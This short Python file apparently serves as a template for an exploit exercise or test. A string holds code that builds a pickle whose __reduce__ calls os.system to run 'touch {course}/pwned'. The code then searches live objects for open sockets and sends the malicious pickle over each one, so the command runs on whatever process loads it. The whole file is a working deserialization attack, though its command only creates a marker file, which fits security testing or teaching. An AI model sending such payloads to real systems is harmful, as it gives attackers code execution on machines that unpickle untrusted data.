"""Reply with a pickle that would run a command where it is loaded."""

CELL = """\
import gc
import os
import pickle
import socket


class Bomb:
    def __reduce__(self):
        return os.system, ("touch {course}/pwned",)


body = pickle.dumps(Bomb())
for link in [o for o in gc.get_objects() if isinstance(o, socket.socket)]:
    link.sendall(len(body).to_bytes(4, "little") + body)
"""
